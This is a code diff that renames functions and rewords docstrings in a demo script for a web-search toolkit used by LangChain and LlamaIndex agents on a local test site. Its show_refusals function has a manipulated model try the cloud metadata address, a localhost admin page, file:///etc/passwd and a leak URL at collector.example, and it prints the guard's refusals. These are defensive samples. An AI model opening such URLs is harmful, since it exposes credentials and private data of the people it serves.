@@ -1,8 +1,8 @@
 """
 Search, read and cite, in LangChain and in LlamaIndex, without network or key: ``make demo``.
 
-A small web site on 127.0.0.1 stands for the web, an index of it for the search engine, a script for the model
-(examples/scripted.py). Everything between is what you would use: the tools, the agents, the guard.
+A small web site on 127.0.0.1 replaces the web, an index of it the search engine, and a script the model
+(examples/scripted.py). Everything else is what you would use: the tools, the agents, the guard.
 """
 
 from __future__ import annotations
@@ -35,8 +35,8 @@ console = Console(width=110, highlight=False)
 
 
 @contextmanager
-def a_web_of_our_own() -> Iterator[tuple[WebSearch, Site]]:
-    """Serve the example site, index it, and give a `WebSearch` that may read that one origin of this machine."""
+def open_demo_web() -> Iterator[tuple[WebSearch, Site]]:
+    """Serve the example site, index it, and yield a `WebSearch` that may read this one local origin."""
     with tempfile.TemporaryDirectory() as folder, Site() as site:
         path = Path(folder) / "index.db"
         options = {"local": {"path": path}}
@@ -60,7 +60,7 @@ def ask_langchain(web: WebSearch, question: str) -> None:
             show_call(call["name"], call["args"])
         if isinstance(message, ToolMessage):
             sources = sources or message.artifact["sources"]
-            show_answer_of_tool(str(message.content))
+            show_tool_output(str(message.content))
     show_answer(str(messages[-1].content), sources)
 
 
@@ -77,7 +77,7 @@ async def ask_llamaindex(web: WebSearch, question: str) -> None:
     async for event in running.stream_events():
         if isinstance(event, ToolCallResult):
             show_call(event.tool_name, event.tool_kwargs)
-            show_answer_of_tool(str(event.tool_output.content))
+            show_tool_output(str(event.tool_output.content))
             found = [document.metadata for document in event.tool_output.raw_output]
             sources = sources or [
                 {"id": each["citation_id"], "title": each["title"], "url": each["url"]} for each in found
@@ -86,26 +86,26 @@ async def ask_llamaindex(web: WebSearch, question: str) -> None:
     await web.aclose()
 
 
-def ask_for_what_is_not_for_pages(web: WebSearch) -> None:
-    """Show what a model gets that was talked into opening what it should not."""
-    search, read = WebSearchToolkit(web=web).get_tools()  # without provenance, so that the guard has its say
-    console.print(Panel("What a model gets that is talked into opening something else", style="bold"))
+def show_refusals(web: WebSearch) -> None:
+    """Show what a manipulated model gets when it tries to open forbidden URLs."""
+    search, read = WebSearchToolkit(web=web).get_tools()  # without provenance, so that the guard refuses
+    console.print(Panel("What a manipulated model gets when it opens something else", style="bold"))
     for url in ("http://169.254.169.254/latest/meta-data/", "http://localhost:8080/admin", "file:///etc/passwd"):
         show_call("open_page", {"url": url})
-        show_answer_of_tool(str(read.invoke({"url": url})))
+        show_tool_output(str(read.invoke({"url": url})))
     leak = {"url": "https://collector.example/?q=what+the+model+knows"}
     show_call("open_page", leak)
-    show_answer_of_tool(str(WebSearchToolkit(web=web, provenance="seen").get_tools()[1].invoke(leak)))
+    show_tool_output(str(WebSearchToolkit(web=web, provenance="seen").get_tools()[1].invoke(leak)))
     show_call("web_search", {"query": "marlinspike"})
-    show_answer_of_tool(str(search.invoke({"query": "marlinspike"})))
+    show_tool_output(str(search.invoke({"query": "marlinspike"})))
     console.print(
-        "    (The word stands seven times on the pages, hidden from people: so it is hidden from models.)\n",
+        "    (The word is on the pages seven times, but hidden from people, so it is hidden from models too.)\n",
         style="dim",
     )
 
 
 def show_question(framework: str, how: str, question: str) -> None:
-    """Print a question, and who is asked."""
+    """Print a question, and the agent that answers it."""
     console.print(Panel(Text.assemble((question, "bold"), ("\n" + how, "dim")), title=framework, title_align="left"))
 
 
@@ -114,11 +114,11 @@ def show_call(tool: str, arguments: dict[str, Any]) -> None:
     console.print(Text.assemble(("  → ", "bold cyan"), (tool, "cyan"), f"({', '.join(map(repr, arguments.values()))})"))
 
 
-def show_answer_of_tool(text: str, most: int = 9) -> None:
-    """Print the first lines of what a model is given."""
+def show_tool_output(text: str, max_lines: int = 9) -> None:
+    """Print the first lines of a tool's output for the model."""
     lines = [line if len(line) <= 104 else f"{line[:103]}…" for line in text.splitlines() if line.strip()]
-    more = [f"… {len(lines) - most} lines more"] if len(lines) > most else []
-    console.print(Padding(Text("\n".join([*lines[:most], *more]), style="dim"), (0, 0, 1, 4)))
+    more = [f"… {len(lines) - max_lines} more lines"] if len(lines) > max_lines else []
+    console.print(Padding(Text("\n".join([*lines[:max_lines], *more]), style="dim"), (0, 0, 1, 4)))
 
 
 def show_answer(answer: str, sources: list[dict[str, Any]]) -> None:
@@ -130,12 +130,12 @@ def show_answer(answer: str, sources: list[dict[str, Any]]) -> None:
 
 
 def main() -> None:
-    """Run it all."""
-    with a_web_of_our_own() as (web, site):
+    """Run the demo."""
+    with open_demo_web() as (web, site):
         ask_langchain(web, "How do I rotate a key without downtime?")
         asyncio.run(ask_llamaindex(web, "Which ferry runs on Sundays?"))
-        ask_for_what_is_not_for_pages(web)
-        console.print(f"{len(site.hits)} requests went to {site.url}, and none anywhere else.", style="dim")
+        show_refusals(web)
+        console.print(f"{len(site.hits)} requests went to {site.url}, and none went anywhere else.", style="dim")
 
 
 if __name__ == "__main__":
